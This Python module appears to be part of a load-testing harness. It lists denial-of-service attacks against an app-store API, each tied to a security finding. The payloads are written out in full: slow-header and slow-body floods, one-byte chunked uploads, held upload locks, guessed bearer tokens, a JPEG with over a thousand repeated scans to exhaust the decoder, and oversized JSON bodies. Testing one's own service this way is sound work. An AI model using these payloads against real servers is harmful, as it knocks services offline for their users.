"""What is tried against the store, one attack a row; the letters are those of the findings that each comes from."""

from collections.abc import Callable
from dataclasses import dataclass
from io import BytesIO

from PIL import Image

from siege.flood import NUMBER, Flood

MIB = 1024 * 1024
STRANGER = ("127.66.0.1",)
DOZEN = tuple(f"127.66.1.{number}" for number in range(1, 13))
CROWD = tuple(f"127.66.2.{number}" for number in range(1, 31))  # enough to hold every place for uploads of all workers
SCANS = 1183  # of a picture that took a decoder 100 s


@dataclass(frozen=True)
class Aim:
    """What an attacker knows of the store: its public package, and the token and the app of a developer gone bad."""

    download: str
    sha256: str
    token: str
    app_id: str
    signed_url: Callable[[int], str]  # of a new upload of that developer, for so many bytes

    @property
    def versions(self) -> str:
        return f"/api/apps/{self.app_id}/versions"


@dataclass(frozen=True)
class Attack:
    """`size` connections, or fewer in the short form."""

    name: str
    size: int
    short: int
    flood: Callable[[Aim, int], Flood]


def request(method: str, target: str, *lines: str, body: str = "") -> str:
    return "\r\n".join((f"{method} {target} HTTP/1.1", "Host: siege", *lines, "", body))


def _unread(aim: Aim, size: int) -> Flood:
    lines = (
        ("If-Match: *",),
        (f'If-Match: "{aim.sha256}"',),
        ("Range: bytes=0-999999,1000001-",),
        ("If-Unmodified-Since: Fri, 31 Dec 2049 23:59:59 GMT",),
    )
    return Flood([request("GET", aim.download, *line) for line in lines], size, DOZEN)


def _bodies(aim: Aim, size: int) -> Flood:
    paths = "/nope", "/healthz", "/api/store/apps", "/assets/x", f"/api/uploads/{'0' * 32}", aim.versions
    sent = "\0" * MIB
    heads = [request("POST", path, f"Content-Length: {50 * MIB}", body=sent) for path in paths]
    return Flood(heads, size, DOZEN, drip="\0")


FORM = "Content-Type: multipart/form-data; boundary=x"


def _senders(aim: Aim, size: int, addresses: tuple[str, ...]) -> Flood:
    return Flood([request("POST", aim.versions, FORM, "Content-Length: 1000000")], size, addresses, drip="-")


def _member_senders(aim: Aim, size: int) -> Flood:
    part = '--x\r\nContent-Disposition: form-data; name="package"; filename="a"\r\n\r\nPK'
    head = request("POST", aim.versions, _token(aim), FORM, "Content-Length: 1000000", body=part)
    return Flood([head], size, CROWD, drip="-")


def _conditional(aim: Aim, size: int) -> Flood:
    return Flood([request("GET", aim.download, f'If-Match: "{aim.sha256}"')], size, DOZEN)


def _chunks(aim: Aim, size: int) -> Flood:
    """A chunk of one byte costs the server six, and a look at each."""
    lines = "Content-Type: application/octet-stream", "Transfer-Encoding: chunked"
    target = aim.signed_url(MIB)
    body = "1\r\nx\r\n" * 50_000
    return Flood([request("PUT", target, *lines, body=body)], size, DOZEN, drip="1\r\nx\r\n" * 100, every=0.2)


def _waits(aim: Aim, size: int) -> Flood:
    """An upload is locked while its body is sent; other requests wait for it a while."""
    target, waiting = aim.signed_url(MIB), ("Tus-Resumable: 1.0.0", "Connection: close")
    sends = request("PUT", target, "Content-Type: application/octet-stream", f"Content-Length: {MIB}", body="x")
    return Flood([sends, *[request("HEAD", target, *waiting)] * 49], size, DOZEN, drip="x", hurries=True)


def _tokens(aim: Aim, size: int) -> Flood:
    """Tokens that were never issued: each is looked up."""
    token = "Authorization: Bearer mosis_0123456789abcdef_" + "x" * 43
    return Flood([request("GET", "/api/me", token, "Connection: close")], size, DOZEN, hurries=True)


def _icons(aim: Aim, size: int) -> Flood:
    """A progressive JPEG whose last scan is repeated: as many more decodings of all its pixels."""
    picture = BytesIO()
    Image.new("L", (4096, 4096)).save(picture, "JPEG", progressive=True)
    data = picture.getvalue()
    scan = data[data.rindex(b"\xff\xda") : -2]
    name = '--x\r\nContent-Disposition: form-data; name="icon"; filename="a"\r\n\r\n'
    body = name + (data[:-2] + scan * SCANS + data[-2:]).decode("latin-1") + "\r\n--x--\r\n"
    target = f"/api/apps/{aim.app_id}/icon"
    return Flood(
        [request("POST", target, _token(aim), FORM, f"Content-Length: {len(body)}", body=body)], size, hurries=True
    )


def _names(aim: Aim, size: int) -> Flood:
    """Names of JSON that repeat at the very end: 64 KiB of them."""
    body = "{" + ",".join(f'"{number:x}":0' for number in range(6400)) + ',"0":0}'
    lines = _token(aim), "Content-Type: application/json", f"Content-Length: {len(body)}"
    return Flood([request("POST", "/api/apps", *lines, body=body)], size, hurries=True)


def _searches(aim: Aim, size: int) -> Flood:
    return Flood([request("GET", f"/api/store/apps?q=x{NUMBER}", "Connection: close")], size, DOZEN, hurries=True)


def _paths(aim: Aim, size: int) -> Flood:
    return Flood([request("GET", f"/{'x' * 900}{NUMBER}", "Connection: close")], size, DOZEN, hurries=True)


def _silent(aim: Aim, size: int) -> Flood:
    return Flood([""], size, STRANGER)


def _heads(aim: Aim, size: int) -> Flood:
    return Flood(["GET / HTTP/1.1\r\nHost: siege\r\nX: "], size, STRANGER, drip="x")


def _token(aim: Aim) -> str:
    return f"Authorization: Bearer {aim.token}"


ATTACKS = (
    Attack("H1 answers that nobody reads", 1600, 240, _unread),
    Attack("H2 bodies of strangers", 400, 120, _bodies),
    Attack("H3 slow bodies of one address", 250, 250, lambda aim, size: _senders(aim, size, STRANGER)),
    Attack("H3 slow bodies of a dozen", 600, 600, lambda aim, size: _senders(aim, size, DOZEN)),
    Attack("H3 slow bodies of a developer", 600, 600, _member_senders),
    Attack("H3 preconditions of a dozen", 600, 300, _conditional),
    Attack("H3 chunks of one byte", 24, 24, _chunks),
    Attack("H3 waits for a locked upload", 600, 600, _waits),
    Attack("H4 pictures of many scans", 6, 6, _icons),
    Attack("H5 repeated names of JSON", 10, 10, _names),
    Attack("A tokens by guessing", 20, 20, _tokens),
    Attack("L2 searches", 20, 20, _searches),
    Attack("L3 silent connections", 8000, 8000, _silent),
    Attack("L3 slow heads", 8192, 8192, _heads),
    Attack("L9 long paths for the log", 20, 20, _paths),
)
